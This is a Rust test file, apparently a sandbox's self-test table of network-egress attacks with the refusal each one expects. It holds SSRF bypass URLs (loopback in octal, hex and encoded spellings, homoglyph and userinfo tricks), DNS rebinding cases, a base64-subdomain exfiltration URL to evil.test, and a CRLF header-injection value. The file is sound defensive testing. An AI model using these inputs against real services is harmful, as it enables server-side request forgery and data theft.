//! Requests that must not leave, and answers that must not be read to their end.

use super::{ATTACK, Attack, OPEN, Open};

const GET: &str =
    "links:\n  get: {kind: http, timeout: 2s, with: {url: '${input.url}'}}\noutput: ${get.body}\n";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        class: 0,
        what: "a request that was granted",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\" }]\n",
        chain: GET,
        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/"}"#],
        ends: &["\"hi\""],
        ..ATTACK
    },
    Attack {
        class: 1,
        what: "names that look like `*.example.com`",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"https://*.example.com\" }]\n",
        chain: GET,
        inputs: &[
            r#"{"url": "https://evilexample.com/"}"#,
            r#"{"url": "https://example.com/"}"#,
            r#"{"url": "https://api.example.com.evil.test/"}"#,
            r#"{"url": "https://api.example.com@evil.test/"}"#,
            r#"{"url": "https://api.ex\u0430mple.com/"}"#,
            r#"{"url": "https://evil.test/https://api.example.com"}"#,
        ],
        ends: &["refused no-grant", "refused bad-address"],
        after: |stage| stage.no_name_was_asked(),
        open: Some(Open { swaps: &[("https://*.example.com", "https://evilexample.com")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 2,
        what: "another port and plain HTTP on a host that is granted",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"https://api.example.com\" }]\n",
        chain: GET,
        inputs: &[
            r#"{"url": "https://api.example.com:22/"}"#,
            r#"{"url": "http://api.example.com/"}"#,
            r#"{"url": "https://api.example.com:@PORT@/"}"#,
        ],
        ends: &["refused no-grant"],
        after: |stage| stage.no_name_was_asked(),
        open: Some(Open { swaps: &[("api.example.com\" }", "api.example.com:22\" }")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 3,
        what: "a redirect to a host that is not granted",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\" }]\n",
        chain: GET,
        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/away"}"#],
        ends: &["refused no-grant"],
        after: |stage| stage.no_name_was_asked(),
        open: Some(Open {
            swaps: &[(
                "net = [",
                "net = [{ address = \"http://localhost:@PORT@\", resolves_to = [\"127.0.0.1\"] }, ",
            )],
            ..OPEN
        }),
        ..ATTACK
    },
    Attack {
        class: 4,
        what: "a granted name that leads to this machine",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://db.example.com:@PORT@\" }]\n",
        chain: GET,
        inputs: &[r#"{"url": "http://db.example.com:@PORT@/"}"#],
        ends: &["refused special-address"],
        after: |stage| stage.nobody_came(),
        open: Some(Open { swaps: &[("@PORT@\" }", "@PORT@\", resolves_to = [\"127.0.0.1\"] }")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 4,
        what: "loopback in other spellings",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://*.example.com:@PORT@\" }]\n",
        chain: GET,
        inputs: &[
            r#"{"url": "http://127.1:@PORT@/"}"#,
            r#"{"url": "http://2130706433:@PORT@/"}"#,
            r#"{"url": "http://0x7f000001:@PORT@/"}"#,
            r#"{"url": "http://0177.0.0.1:@PORT@/"}"#,
            r#"{"url": "http://0:@PORT@/"}"#,
            r#"{"url": "http://[::ffff:127.0.0.1]:@PORT@/"}"#,
            r#"{"url": "http://localhost.:@PORT@/"}"#,
            r#"{"url": "http://%31%32%37.0.0.1:@PORT@/"}"#,
            r#"{"url": "http://\uff11\uff12\uff17.0.0.1:@PORT@/"}"#,
        ],
        ends: &["refused "],
        after: |stage| stage.nobody_came(),
        open: Some(Open { swaps: &[("http://*.example.com", "http://127.0.0.1")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 5,
        what: "a name that leads elsewhere once it was checked",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://db.example.com:@PORT@\", resolves_to = [\"127.0.0.1\"] }]\n",
        chain: GET,
        inputs: &[r#"{"url": "http://db.example.com:@PORT@/"}"#],
        ends: &["\"hi\""],
        names: &["127.0.0.1", "127.0.0.2"],
        after: |stage| stage.the_first_address_counted(),
        ..ATTACK
    },
    Attack {
        class: 5,
        what: "a name that leads elsewhere at the second call",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://db.example.com:@PORT@\", resolves_to = [\"127.0.0.1\"] }]\n",
        chain: "links:\n  one: {kind: http, timeout: 2s, with: {url: '${input.url}'}}\n  two: {kind: http, timeout: 2s, after: [one], with: {url: '${input.url}'}}\noutput: ${two.body}\n",
        inputs: &[r#"{"url": "http://db.example.com:@PORT@/"}"#],
        ends: &["refused special-address"],
        names: &["127.0.0.1", "127.0.0.2"],
        open: Some(Open { swaps: &[("[\"127.0.0.1\"]", "[\"127.0.0.0/8\"]")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 6,
        what: "asking for a name to carry data out",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"https://api.example.com\" }]\n",
        chain: GET,
        inputs: &[r#"{"url": "https://c2VjcmV0.evil.test/"}"#],
        ends: &["refused no-grant"],
        after: |stage| stage.no_name_was_asked(),
        open: Some(Open { swaps: &[("https://api.example.com", "https://*.evil.test")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 7,
        what: "an answer that trickles",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\" }]\n",
        chain: GET,
        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/slow"}"#],
        ends: &["`t.get` failed: timeout: it took longer than 2000 ms"],
        open: Some(Open { swaps: &[("timeout: 2s", "timeout: 60s")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 7,
        what: "an answer without end",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\", response_max = \"1MiB\" }]\n",
        chain: GET,
        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/much"}"#],
        ends: &["`t.get` failed: too-large: the answer is larger than 1048576 bytes"],
        open: Some(Open { swaps: &[("1MiB", "2MiB")], ..OPEN }),
        ..ATTACK
    },
    Attack {
        class: 8,
        what: "line ends in a header",
        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\" }]\n",
        chain: "links:\n  get: {kind: http, with: {url: '${input.url}', headers: {x: '${input.value}'}}}\noutput: ${get.body}\n",
        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/", "value": "a\r\nhost: evil.test"}"#],
        ends: &["header"],
        after: |stage| stage.nobody_came(),
        ..ATTACK
    },
];
